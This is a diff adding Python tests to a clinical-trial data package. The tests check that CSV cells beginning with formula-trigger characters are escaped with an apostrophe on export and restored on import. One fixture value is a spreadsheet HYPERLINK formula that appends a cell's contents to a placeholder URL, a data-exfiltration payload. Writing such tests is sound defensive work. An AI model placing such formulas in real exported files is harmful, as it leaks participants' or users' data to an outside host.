@@ -184,3 +184,57 @@ def test_exported_allocation_csv_hashes_to_the_list_fingerprint(builder, tmp_pat
         b"bottle_number,arm_code,block,stratum,is_spare\n1,vitamin_k2,1,,0\n"
     )
     assert hashlib.sha256(exported).hexdigest() == RandomizationList.objects.get().sha256
+
+
+# Text that a spreadsheet would run (the contract's rule): one leading apostrophe on
+# export, removed on import; the round trip stays byte-identical.
+RUNNABLE = {
+    ("adverse_events.csv", "term"): '=HYPERLINK("http://example.invalid/?d="&A2,"Headache")',
+    ("adverse_events.csv", "outcome"): "@resolved",
+    ("participants.csv", "withdrawal_reason"): "-moved away",
+    ("sites.csv", "name"): "+Central hospital",
+    ("screening.csv", "reason"): "\tdeclined by phone",
+}
+
+
+def _runnable(builder):
+    builder.row("adverse_events.csv", term="Nausea").update(
+        term="'" + RUNNABLE[("adverse_events.csv", "term")],
+        outcome="'" + RUNNABLE[("adverse_events.csv", "outcome")],
+    )
+    builder.row("participants.csv", participant_id="C1-002")["withdrawal_reason"] = (
+        "'" + RUNNABLE[("participants.csv", "withdrawal_reason")]
+    )
+    builder.row("sites.csv", site_code="C1")["name"] = "'" + RUNNABLE[("sites.csv", "name")]
+    screen_failure = next(r for r in builder.rows["screening.csv"] if r["outcome"] != "enrolled")
+    screen_failure["reason"] = "'" + RUNNABLE[("screening.csv", "reason")]
+    return builder
+
+
+def test_import_removes_the_apostrophe_before_runnable_text(builder, tmp_path):
+    from diary.models import AdverseEvent, Participant, ScreeningRecord, Site
+
+    builder.row("adverse_events.csv", term="Fall, hip fracture")["term"] = "'Fall"  # kept
+    package_import(path=_runnable(builder).write(tmp_path / "in"))
+
+    terms = set(AdverseEvent.objects.values_list("term", flat=True))
+    assert terms == {RUNNABLE[("adverse_events.csv", "term")], "'Fall"}
+    assert AdverseEvent.objects.filter(outcome="@resolved").exists()
+    assert Participant.objects.get(participant_id="C1-002").withdrawal_reason == "-moved away"
+    assert Site.objects.get(code="C1").name == "+Central hospital"
+    assert ScreeningRecord.objects.filter(reason="\tdeclined by phone").exists()
+
+
+def test_runnable_text_round_trips_byte_identical(builder, tmp_path):
+    package_import(path=_runnable(builder).write(tmp_path / "in"))
+    first = package_export(trial=Trial.objects.get(), unblinded=True, path=tmp_path / "1")
+    for (name, column), text in RUNNABLE.items():
+        header, rows = _rows((first / name).read_text())
+        assert "'" + text in [row[header.index(column)] for row in rows], (name, column)
+
+    _fresh_database()
+    package_import(path=first)
+    second = package_export(trial=Trial.objects.get(), unblinded=True, path=tmp_path / "2")
+
+    for name in sorted(p.name for p in first.iterdir()):
+        assert (first / name).read_bytes() == (second / name).read_bytes(), name
